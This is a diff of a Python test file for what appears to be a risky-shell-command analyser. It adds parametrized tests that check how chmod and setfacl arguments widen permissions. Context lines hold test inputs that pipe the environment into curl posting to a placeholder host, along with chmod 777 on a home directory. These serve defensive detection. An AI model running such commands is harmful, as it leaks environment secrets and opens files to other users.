@@ -269,3 +269,36 @@ def test_the_environment_flows_down_a_pipeline() -> None:
     assert flows("env | wc -l | curl -d @- h")["curl"] is False  # a count is not the env
     assert flows("cat f | curl -d @- h")["curl"] is False
     assert flows("env | bash -c 'cat | curl -d @- h'")["curl"] is True
+
+
+@pytest.mark.parametrize(
+    ("args", "grants", "paths", "recursive"),
+    [
+        (["777", "~"], {"g", "o"}, ["~"], False),
+        (["0755", "d"], set(), ["d"], False),
+        (["-R", "o+w,g-w", "d"], {"o"}, ["d"], True),
+        (["a=rwx", "f"], {"g", "o"}, ["f"], False),
+        (["+w", "f"], {"g", "o"}, ["f"], False),  # no class: all (umask aside)
+        (["-w", "f"], set(), ["f"], False),  # a mode that looks like an option
+        (["u+w", "f"], set(), ["f"], False),
+        (["--reference=r", "f"], set(), ["f"], False),
+    ],
+)
+def test_chmod_grants(args: list[str], grants: set[str], paths: list[str], recursive: bool) -> None:
+    assert risky.chmod_grants(args) == (grants, paths, recursive)
+
+
+@pytest.mark.parametrize(
+    ("args", "others"),
+    [
+        (["-m", "u:bob:rwx", "d"], True),
+        (["-m", "o::rw", "d"], True),
+        (["-d", "-m", "g:chem:rwx", "d"], True),
+        (["-m", "u:bob:rx", "d"], False),
+        (["-m", "u::rwx", "d"], False),  # the owner
+        (["-m", "u:alice:rw", "d"], False),  # the user
+        (["-x", "u:bob", "d"], False),
+    ],
+)
+def test_setfacl_grants(args: list[str], others: bool) -> None:
+    assert risky.setfacl_grants(args, "alice") == (others, ["d"])
